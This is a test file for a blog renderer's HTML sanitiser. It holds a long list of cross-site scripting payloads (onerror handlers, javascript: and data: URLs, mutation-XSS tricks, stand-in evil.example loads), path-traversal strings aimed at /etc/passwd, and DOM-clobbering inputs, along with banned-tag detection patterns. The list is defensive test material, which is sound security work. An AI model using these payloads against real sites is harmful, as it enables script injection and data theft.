import { parseDocument } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { elementsOf } from '../../../src/core/post/treeQueries.ts';
import { htmlOf } from './makeFile.ts';

const BANNED =
  /^(?:script|style|iframe|frame|frameset|object|embed|applet|form|button|select|textarea|svg|math|base|meta|link|title|template|noscript|xmp|plaintext|listing|article|main|nav|isindex|keygen|portal|dialog|marquee)$/u;
const REMOTE_SAFE = /^(?:https?:\/\/[^/]|mailto:|#post-)/u;

/** Everything that must hold for any HTML that leaves the sanitiser. */
function expectHarmless(html: string): void {
  for (const { name, attribs } of elementsOf(parseDocument(html))) {
    expect(name).not.toMatch(BANNED);
    for (const [key, value] of Object.entries(attribs)) {
      expect(key).not.toMatch(
        /^on|^style$|^srcdoc$|^srcset$|^formaction$|^action$|^xlink|^background$|^name$|^ping$|^target$/u,
      );
      if (key === 'src') expect(value).not.toMatch(/^[a-z][\w+.-]*:|^\/|\\|(?:^|\/)\.\.(?:\/|$)/iu);
      if (key === 'href' && /^[^/?#]*:|^\/\//u.test(value)) expect(value).toMatch(REMOTE_SAFE);
      if (key === 'data-src') expect(value).toMatch(/^https?:\/\//iu);
      if (key === 'id') expect(value).toMatch(/^post-/u);
    }
  }
}

const VECTORS: readonly string[] = [
  '<script>run()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>run()</script>',
  '<img src=x onerror=run()>',
  '<img src="x" onerror="run()" OnLoad=run()>',
  '<img/src=x/onerror=run()>',
  '<img src=x onerror\n=\nrun()>',
  '<svg onload=run()>',
  '<svg><script>run()</script></svg>',
  '<svg><a xlink:href="javascript:run()"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:run()"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=run()&gt;">',
  '<math href="javascript:run()">x</math>',
  '<a href="javascript:run()">x</a>',
  '<a href="JaVaScRiPt:run()">x</a>',
  '<a href="java\tscript:run()">x</a>',
  '<a href="java&#10;script:run()">x</a>',
  '<a href="&#106;avascript:run()">x</a>',
  '<a href=" \u0001javascript:run()">x</a>',
  '<a href="vbscript:run()">x</a>',
  '<a href="data:text/html,<script>run()</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="\\\\evil.example\\share">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://x" ping="https://evil.example" target="_top" onclick="run()">x</a>',
  '[x](javascript:run())',
  '[x](<java script:run()>)',
  '![x](javascript:run())',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>run()</script>"></iframe>',
  '<object data="x.swf"><param name="a" value="b"></object>',
  '<embed src="javascript:run()">',
  '<form action="https://evil.example"><input name=a><button formaction="javascript:run()">x</button></form>',
  '<input type="image" src="https://evil.example/x.png">',
  '<input autofocus onfocus=run()>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:run()">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; p{background:url(//evil.example)}</style>',
  '<p style="background:url(https://evil.example/x.png);position:fixed">x</p>',
  '<div style="position:fixed;inset:0;z-index:9999">x</div>',
  '<table background="https://evil.example/x.png"><tr><td background="//evil.example">x</td></tr></table>',
  '<img src="data:image/svg+xml,<svg onload=run()>">',
  '<img src="data:image/png;base64,AAAA">',
  '<img srcset="https://evil.example/1.png 1x">',
  '<picture><source srcset="https://evil.example/1.png"><img src="a.png"></picture>',
  '<video src="https://evil.example/v.mp4" autoplay poster="https://evil.example/p.png" onplay=run()></video>',
  '<audio><source src="file:///x.mp3" onerror=run()></audio>',
  '<img src="../../../../etc/passwd">',
  '<img src="..%2f..%2f..%2fetc%2fpasswd">',
  '<img src="%2e%2e/%2e%2e/%2e%2e/etc/passwd">',
  '<img src="..\\..\\..\\etc\\passwd">',
  '<img src="..%5c..%5c..%5cetc">',
  '<img src="/../../etc/passwd">',
  '<img src="file:///etc/passwd">',
  '<img src="C:\\Windows\\x.png">',
  '<img src="//evil.example/x.png">',
  '<img src="\\\\evil.example\\x.png">',
  '<img src="a%00.png">',
  '<p id="root" name="location">x</p>',
  '<a id="__proto__" name="createElement">x</a>',
  '<form id="document"><input id="attributes"></form>',
  '<noscript><p title="</noscript><img src=x onerror=run()>"></noscript>',
  '<template><img src=x onerror=run()></template>',
  '<textarea></textarea><img src=x onerror=run()>',
  '<title></title><img src=x onerror=run()>',
  '<xmp><img src=x onerror=run()></xmp>',
  '<plaintext><img src=x onerror=run()>',
  '<listing>&lt;img src=x onerror=run()&gt;</listing>',
  '<!--><img src=x onerror=run()>-->',
  '<!--[if IE]><script>run()</script><![endif]-->',
  '<![CDATA[<img src=x onerror=run()>]]>',
  '<?xml-stylesheet href="javascript:run()"?>',
  '<details open ontoggle=run()>x</details>',
  '<marquee onstart=run()>x</marquee>',
  '<isindex action="javascript:run()">',
  '<p title="&quot;><script>run()</script>">x</p>',
  '<p lang="&quot; onclick=&quot;run()">x</p>',
  '`<script>run()</script>`',
  '```html\n<script>run()</script>\n```',
  '<a href="#x" id="x">x</a>',
  '<nav role="main"><article>x</article></nav>',
  '<img width="99999999" height="1e9" src="a.png">',
  '{{< figure src="javascript:run()" caption="<img src=x onerror=run()>" >}}',
  '[^1]: <img src=x onerror=run()>\n\na[^1]',
  '# <img src=x onerror=run()>',
  '| <script>run()</script> |\n|---|\n| <img src=x onerror=run()> |',
];

describe('the sanitiser', () => {
  it.each(VECTORS)('lets nothing through of %s', (vector) => {
    for (const path of ['_posts/2020-01-01-a.md', 'a.html', 'a.txt']) {
      expectHarmless(htmlOf(`${vector}\n\nend`, path));
    }
  });

  it('keeps what a post is made of', () => {
    const body = `<h2 id="s">S</h2><ol start="3"><li value="4">a</li></ol><table><tr><td colspan="2" align="right">b</td></tr></table>
<p lang="ja" dir="ltr"><ruby>字<rt>じ</rt></ruby> <kbd>k</kbd> <mark class="x">m</mark> <abbr title="t">u</abbr></p>
<details open><summary>c</summary>d</details>

\`\`\`js
e
\`\`\`
`;
    const html = htmlOf(body);
    for (const part of [
      '<h2 id="post-s">S</h2>',
      '<ol start="3"><li value="4">a</li></ol>',
      '<td colspan="2" align="right">b</td>',
      '<p lang="ja" dir="ltr"><ruby>字<rt>じ</rt></ruby> <kbd>k</kbd> <mark>m</mark>',
      '<abbr title="t">u</abbr>',
      '<summary>c</summary>d</details>',
      '<pre><code class="language-js">e',
    ]) {
      expect(html).toContain(part);
    }
  });

  it('draws task boxes that nobody can press', () => {
    const html = htmlOf('- [x] a\n- [ ] b');
    expect(html.match(/<input[^>]*>/gu)).toEqual([
      '<input type="checkbox" disabled checked />',
      '<input type="checkbox" disabled />',
    ]);
  });

  it('makes links to places in the post meet their prefixed targets', () => {
    const html = htmlOf('[go](#the-quay)\n\n## The quay\n\n## The quay\n\na[^1]\n\n[^1]: b');
    expect(html).toContain('href="#post-the-quay"');
    expect(html).toContain('<h2 id="post-the-quay">');
    expect(html).toContain('<h2 id="post-the-quay-1">');
    expect(html).toContain('href="#post-fn1"');
    expect(html).toContain('id="post-fn1"');
  });

  it('keeps the alignment of Markdown tables without a style', () => {
    expect(htmlOf('|a|\n|-:|\n|b|')).toContain('<td align="right">b</td>');
  });
});

describe('addresses of media', () => {
  const srcOf = (address: string, path = 'news/_posts/a.md') =>
    /src="(?<src>[^"]*)"/u.exec(htmlOf(`<img src="${address}" alt="x" width="5" height="6">`, path))
      ?.groups?.['src'];

  it.each([
    ['a.png', 'news/_posts/a.png'],
    ['./a.png', 'news/_posts/a.png'],
    ['../img/a.png', 'news/img/a.png'],
    ['../../a.png', 'a.png'],
    ['/assets/a.png', 'assets/a.png'],
    ['..\\img\\a.png', 'news/img/a.png'],
    ['a%20b.png', 'news/_posts/a%20b.png'],
    ['a b.png', 'news/_posts/a%20b.png'],
    ['图 片.png', 'news/_posts/图%20片.png'],
    ['%E5%9B%BE.png', 'news/_posts/图.png'],
    ['100%.png', 'news/_posts/100%25.png'],
    ['a.png?v=1#x', 'news/_posts/a.png'],
    ['a%23b.png', 'news/_posts/a%23b.png'],
    ['%252e%252e/a.png', 'news/_posts/%252e%252e/a.png'],
  ])('%s is %s', (address, src) => {
    expect(srcOf(address)).toBe(src);
  });

  it('keeps size and alternative text of images, which load lazily', () => {
    expect(htmlOf('<img src="a.png" alt="潮" width="5" height="6">', 'a.md')).toBe(
      '<img alt="潮" width="5" height="6" src="a.png" loading="lazy" />',
    );
  });

  it('sets remote addresses aside', () => {
    expect(htmlOf('![a](https://x.example/a.png)', 'a.md')).toBe(
      '<p><img alt="a" data-src="https://x.example/a.png" loading="lazy" /></p>',
    );
    expect(htmlOf('<img src="//x.example/a.png">', 'a.md')).toContain(
      'data-src="https://x.example/a.png"',
    );
    expect(htmlOf('<img data-original="https://x.example/a.png">', 'a.md')).toContain('data-src=');
  });
});
